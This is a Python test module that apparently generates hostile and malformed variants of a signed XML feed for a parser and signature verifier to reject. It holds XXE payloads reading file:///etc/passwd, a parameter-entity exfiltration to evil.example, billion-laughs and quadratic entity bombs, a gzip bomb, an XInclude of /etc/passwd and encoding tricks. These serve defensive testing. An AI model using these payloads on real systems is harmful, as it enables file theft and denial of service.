"""Bytes that are no XML, or XML that some reader takes otherwise than ours: DTDs, encodings, strange ends."""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Final
from zipfile import ZipFile

from tests.hostile.flaws import Flaw
from tests.hostile.genuine import Genuine

_MALFORMED: Final = "trust.document_malformed"
_DECLARATION: Final = b'<?xml version="1.0" encoding="UTF-8"?>'
_Make = Callable[[Genuine], bytes]


def _doctype(words: bytes) -> _Make:
    """The genuine document after a document type declaration."""
    return lambda one: one.altered(b"<" + one.root_name + b" ", words + b"<" + one.root_name + b" ")


def _entity(declared: bytes, used: bytes = b"&x;") -> _Make:
    """An entity declared, and used as the first text of the document."""

    def make(one: Genuine) -> bytes:
        document = one.first(used)
        start = b"<" + one.root_name + b" "
        return document.replace(start, b"<!DOCTYPE " + one.root_name + b" [" + declared + b"]>" + start, 1)

    return make


def _laughs(levels: int, each: int) -> bytes:
    first = b'<!ENTITY x0 "ha">'
    others = (
        b'<!ENTITY x%d "%b">' % (level, b"&x%d;" % (level - 1) * each) for level in range(1, levels + 1)
    )
    return first + b"".join(others)


_DTDS: Final[dict[str, tuple[str, _Make]]] = {
    "empty": ("a document type declaration without words", _doctype(b"<!DOCTYPE Feed>")),
    "internal": ("an entity that is declared and not used", _doctype(b'<!DOCTYPE Feed [<!ENTITY x "y">]>')),
    "default-attribute": (
        "an attribute that a DTD adds",
        _doctype(b'<!DOCTYPE Feed [<!ATTLIST Entry state CDATA "active">]>'),
    ),
    "id-attribute": (
        "an attribute that a DTD calls an ID",
        _doctype(b"<!DOCTYPE Feed [<!ATTLIST Entry id ID #IMPLIED>]>"),
    ),
    "external": (
        "a DTD that lies elsewhere",
        _doctype(b'<!DOCTYPE Feed SYSTEM "http://evil.example/x.dtd">'),
    ),
    "public": (
        "a DTD by a public name",
        _doctype(b'<!DOCTYPE Feed PUBLIC "-//x//EN" "http://evil.example/x.dtd">'),
    ),
    "entity": ("an entity that stands for words", _entity(b'<!ENTITY x "words">')),
    "file": ("an entity that stands for a file", _entity(b'<!ENTITY x SYSTEM "file:///etc/passwd">')),
    "web": ("an entity that stands for a web page", _entity(b'<!ENTITY x SYSTEM "http://evil.example/">')),
    "parameter": (
        "a parameter entity that sends a file away",
        _entity(
            b'<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e SYSTEM "http://evil.example/"> %e;', b""
        ),
    ),
    "laughs": ("an entity of a billion laughs", _entity(_laughs(9, 10), b"&x9;")),
    "quadratic": (
        "a long entity used ten thousand times",
        _entity(b'<!ENTITY x "' + b"a" * 50_000 + b'">', b"&x;" * 10_000),
    ),
    "endless": ("an entity that stands for itself", _entity(b'<!ENTITY x "&y;"><!ENTITY y "&x;">')),
    "notation": (
        "a notation that names a program",
        _doctype(b'<!DOCTYPE Feed [<!NOTATION n SYSTEM "calc.exe">]>'),
    ),
    "in-a-comment": ("a comment that quotes a declaration", _doctype(b"<!-- <!DOCTYPE Feed> -->")),
}

DTDS: Final = (
    *(
        Flaw(f"dtd-{name}", f"there is {wrong}", _MALFORMED, make, reader="xml.dtd")
        for name, (wrong, make) in _DTDS.items()
    ),
    Flaw(
        "entity-undeclared",
        "an entity is used that nobody declared",
        _MALFORMED,
        lambda g: g.first(b"&evil;"),
        reader="xml.malformed",
    ),
    Flaw(
        "dtd-in-another-case",
        "a declaration in small letters",
        _MALFORMED,
        _doctype(b"<!doctype Feed>"),
        reader="xml.malformed",
    ),
    Flaw(
        "dtd-after-the-root",
        "a declaration follows the document",
        _MALFORMED,
        lambda g: g.signed + b"<!DOCTYPE Feed>",
        reader="xml.dtd",
    ),
    Flaw(
        "xinclude-added",
        "an XInclude was added after signing",
        "trust.signature_invalid",
        lambda g: g.first(
            b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
        ),
    ),
    Flaw(
        "style-sheet",
        "a style sheet is asked for",
        _MALFORMED,
        _doctype(b'<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>'),
        reader="xml.processing_instruction",
    ),
    *(
        Flaw(
            f"instruction-{name}",
            f"a processing instruction stands {name.replace('-', ' ')}",
            _MALFORMED,
            make,
            reader="xml.processing_instruction",
        )
        for name, make in {
            "before-the-root": _doctype(b"<?evil one?>"),
            "in-the-root": lambda g: g.first(b"<?evil one?>"),
            "in-the-signature": lambda g: g.in_signature(b"<?evil one?>"),
            "in-a-value": lambda g: g.altered(b"<ds:DigestValue>", b"<ds:DigestValue><?evil one?>"),
            "after-the-root": lambda g: g.signed + b"<?evil one?>",
        }.items()
    ),
)


def _text(one: Genuine) -> str:
    return one.signed.decode()


def _encoded(encoding: str, declared: str | None = None, before: bytes = b"") -> _Make:
    return lambda one: before + _text(one).replace("UTF-8", declared or encoding).encode(encoding)


def _declaring(declaration: bytes) -> _Make:
    return lambda one: one.altered(_DECLARATION, declaration)


def _zipped(one: Genuine) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w") as archive:
        archive.writestr("document.xml", one.signed)
    return file.getvalue()


_ENCODINGS: Final[dict[str, tuple[str, _Make]]] = {
    "bom": ("begins with a byte order mark", lambda g: b"\xef\xbb\xbf" + g.signed),
    "two-boms": ("begins with two byte order marks", lambda g: b"\xef\xbb\xbf" * 2 + g.signed),
    "utf-16": ("is UTF-16", _encoded("utf-16")),
    "utf-16-le": ("is UTF-16 without a mark, little end first", _encoded("utf-16-le", "UTF-16")),
    "utf-16-be": ("is UTF-16 without a mark, big end first", _encoded("utf-16-be", "UTF-16")),
    "utf-16-said-to-be-utf-8": ("is UTF-16 and declares UTF-8", _encoded("utf-16", "UTF-8")),
    "utf-32": ("is UTF-32", _encoded("utf-32")),
    "utf-32-be": ("is UTF-32 without a mark", _encoded("utf-32-be", "UTF-32")),
    "declares-utf-16": (
        "is UTF-8 and declares UTF-16",
        _declaring(_DECLARATION.replace(b"UTF-8", b"UTF-16")),
    ),
    "declares-utf-7": ("declares UTF-7", _declaring(_DECLARATION.replace(b"UTF-8", b"UTF-7"))),
    "declares-latin-1": ("declares ISO-8859-1", _declaring(_DECLARATION.replace(b"UTF-8", b"ISO-8859-1"))),
    "declares-ascii": ("declares US-ASCII", _declaring(_DECLARATION.replace(b"UTF-8", b"US-ASCII"))),
    "declares-windows": (
        "declares windows-1252",
        _declaring(_DECLARATION.replace(b"UTF-8", b"windows-1252")),
    ),
    "declares-nonsense": (
        "declares an encoding that nobody knows",
        _declaring(_DECLARATION.replace(b"UTF-8", b"x-evil")),
    ),
    "latin-1": ("is ISO-8859-1, with an umlaut", lambda g: g.first("<!--ä-->".encode("latin-1"))),
    "overlong": ("writes a slash in two bytes", lambda g: g.first(b"<!--\xc0\xaf-->")),
    "surrogate": ("holds half of a character", lambda g: g.first(b"<!--\xed\xa0\x80-->")),
    "beyond-unicode": ("holds a character beyond Unicode", lambda g: g.first(b"<!--\xf5\x80\x80\x80-->")),
    "cut-in-a-character": ("ends in the middle of a character", lambda g: g.signed + b"<!--\xe2\x82"),
    "gzip": ("is compressed", lambda g: gzip.compress(g.signed, mtime=0)),
    "zip": ("is an archive", _zipped),
    "deflated": ("is a deflated stream", lambda g: zlib.compress(g.signed)),
    "gzip-bomb": (
        "is compressed to a thousandth",
        lambda g: gzip.compress(g.signed + b" " * 5_000_000, mtime=0),
    ),
}


_MALFORMEDS: Final[dict[str, tuple[str, _Make]]] = {
    "empty": ("there is nothing", lambda _: b""),
    "blank": ("there are only blanks", lambda _: b" \r\n\t" * 100),
    "declaration-alone": ("there is only a declaration", lambda _: _DECLARATION),
    "a-web-page": ("there is a sentence", lambda _: b"Sign in to continue"),
    "json": ("there is JSON", lambda _: b'{"version": 7}'),
    "cut": ("the last bytes are missing", lambda g: g.signed[:-10]),
    "half": ("the second half is missing", lambda g: g.signed[: len(g.signed) // 2]),
    "zeros": ("there are zeros", lambda _: b"    " + bytes(1000)),
    "zero-first": (
        "a zero stands after the declaration",
        lambda g: g.altered(_DECLARATION, _DECLARATION + b"\0"),
    ),
    "zero-in-a-text": ("a zero stands between two elements", lambda g: g.first(b"\0")),
    "zero-in-an-attribute": ("a zero stands in an attribute", lambda g: g.in_root(b'x="a\0b"')),
    "zero-last": ("a zero follows the document", lambda g: g.signed + b"\0"),
    "zero-by-number": ("a zero is written by its number", lambda g: g.first(b"&#0;")),
    "control-character": ("a control character stands in a text", lambda g: g.first(b"\x07")),
    "control-by-number": ("a control character is written by its number", lambda g: g.first(b"&#7;")),
    "surrogate-by-number": ("half of a character is written by its number", lambda g: g.first(b"&#xD800;")),
    "number-too-large": (
        "a character beyond Unicode is written by its number",
        lambda g: g.first(b"&#x110000;"),
    ),
    "no-character": ("a code that is no character", lambda g: g.first("\ufffe".encode())),
    "text-after": ("words follow the document", lambda g: g.signed + b"and more"),
    "element-after": ("an element follows the document", lambda g: g.signed + b"<more/>"),
    "document-after": ("the same document follows", lambda g: g.signed + g.inner),
    "evil-before": ("an evil document stands before the genuine one", lambda g: g.evil.strip() + g.inner),
    "cdata-after": ("a CDATA section follows the document", lambda g: g.signed + b"<![CDATA[x]]>"),
    "blank-first": ("a blank stands before the declaration", lambda g: b"\n" + g.signed),
    "two-declarations": ("the declaration stands there twice", lambda g: _DECLARATION + g.signed),
    "declaration-inside": ("a second declaration stands in the root", lambda g: g.first(_DECLARATION)),
    "version-1-1": ("XML 1.1 is declared", _declaring(b'<?xml version="1.1" encoding="UTF-8"?>')),
    "version-2": ("XML 2.0 is declared", _declaring(b'<?xml version="2.0" encoding="UTF-8"?>')),
    "version-missing": ("no version is declared", _declaring(b'<?xml encoding="UTF-8"?>')),
    "declared-in-another-order": (
        "the encoding stands first",
        _declaring(b'<?xml encoding="UTF-8" version="1.0"?>'),
    ),
    "prefix-undeclared": ("a prefix is not declared", lambda g: g.first(b"<x:y/>")),
    "prefix-undeclared-and-a-warning": (
        "a prefix is not declared, which a warning that follows makes some parsers forget",
        lambda g: g.first(b'<x:y>&#13;</x:y><a xmlns:q="AAAA"/>'),
    ),
    "prefix-of-an-attribute-and-a-warning": (
        "the prefix of an attribute is not declared, and a warning follows",
        lambda g: g.in_root(b'x:y="1"').replace(b"<ds:Signature ", b'<a xmlns:q="AAAA"/><ds:Signature ', 1),
    ),
    "xml-id-twice-and-a-warning": (
        "two elements have one xml:id, and a warning follows",
        lambda g: g.first(b'<a xml:id="a"/><a xml:id="a"/><a xmlns:q="AAAA"/>'),
    ),
    "prefix-emptied": ("a prefix is declared to nothing", lambda g: g.in_root(b'xmlns:x=""')),
    "xml-prefix-moved": ("the prefix xml is given away", lambda g: g.in_root(b'xmlns:xml="urn:example:x"')),
    "xmlns-prefix": ("the prefix xmlns is given away", lambda g: g.in_root(b'xmlns:xmlns="urn:example:x"')),
    "attribute-twice": ("an attribute stands there twice", lambda g: g.in_root(b'x="1" x="2"')),
    "attribute-twice-by-two-prefixes": (
        "an attribute stands there twice, by two prefixes of one namespace",
        lambda g: g.in_root(b'xmlns:a="urn:x" xmlns:b="urn:x" a:x="1" b:x="2"'),
    ),
    "attribute-without-quotes": ("a value has no quotes", lambda g: g.in_root(b"x=1")),
    "attribute-without-value": ("an attribute has no value", lambda g: g.in_root(b"x")),
    "less-than-in-attribute": ("a value holds a less-than sign", lambda g: g.in_root(b'x="<"')),
    "cdata-end": ("a text holds the end of a CDATA section", lambda g: g.first(b"]]>")),
    "comment-with-two-hyphens": ("a comment holds two hyphens", lambda g: g.first(b"<!-- a -- b -->")),
    "tags-crossed": ("two elements overlap", lambda g: g.first(b"<a><b></a></b>")),
    "end-in-another-case": ("an end tag is in another case", lambda g: g.first(b"<a></A>")),
    "ampersand": ("an ampersand stands alone", lambda g: g.first(b"a & b")),
}

_NOT_PORTABLE: Final[dict[str, tuple[str, _Make]]] = {
    "tab-in-an-attribute": (
        "a tab stands in an attribute, by its number",
        lambda g: g.in_root(b'x="a&#9;b"'),
    ),
    "line-feed-in-an-attribute": ("a line feed stands in an attribute", lambda g: g.in_root(b'x="a&#10;b"')),
    "return-in-an-attribute": (
        "a carriage return stands in an attribute",
        lambda g: g.in_root(b'x="a&#xD;b"'),
    ),
    "return-in-a-text": ("a carriage return stands in a text", lambda g: g.first(b"&#13;")),
    "return-in-a-digest": (
        "a carriage return stands in the digest",
        lambda g: g.altered(b"</ds:DigestValue>", b"&#13;</ds:DigestValue>"),
    ),
    "base": (
        "the root says where relative addresses begin",
        lambda g: g.in_root(b'xml:base="http://evil.example/"'),
    ),
    "base-inside": (
        "an element says where relative addresses begin",
        lambda g: g.first(b'<a xml:base="x"/>'),
    ),
}

ENCODINGS: Final = tuple(
    Flaw(name, f"the document {wrong}", _MALFORMED, make, reader="xml.encoding")
    for name, (wrong, make) in _ENCODINGS.items()
)

MALFORMED: Final = (
    *(
        Flaw(name, wrong, _MALFORMED, make, reader="xml.malformed")
        for name, (wrong, make) in _MALFORMEDS.items()
    ),
    *(
        Flaw(name, wrong, _MALFORMED, make, reader="xml.not_portable")
        for name, (wrong, make) in _NOT_PORTABLE.items()
    ),
    Flaw(
        "html",
        "there is a page to sign in on",
        "trust.wrong_kind",
        lambda _: b"<html><head/><body>Sign in</body></html>",
    ),
    Flaw(
        "problem-details",
        "there is a server's word on an error",
        "trust.wrong_kind",
        lambda _: b'<problem xmlns="urn:ietf:rfc:7807"><status>404</status></problem>',
    ),
    Flaw(
        "authored",
        "there is a mitigation as its author wrote it",
        "trust.wrong_kind",
        lambda _: b'<Mitigation xmlns="urn:feedsrv:authoring:1" id="M0001" severity="high"/>',
    ),
    Flaw(
        "root-without-namespace",
        "the root has no namespace",
        "trust.wrong_kind",
        lambda g: b"<" + g.root_name + b"/>",
    ),
)
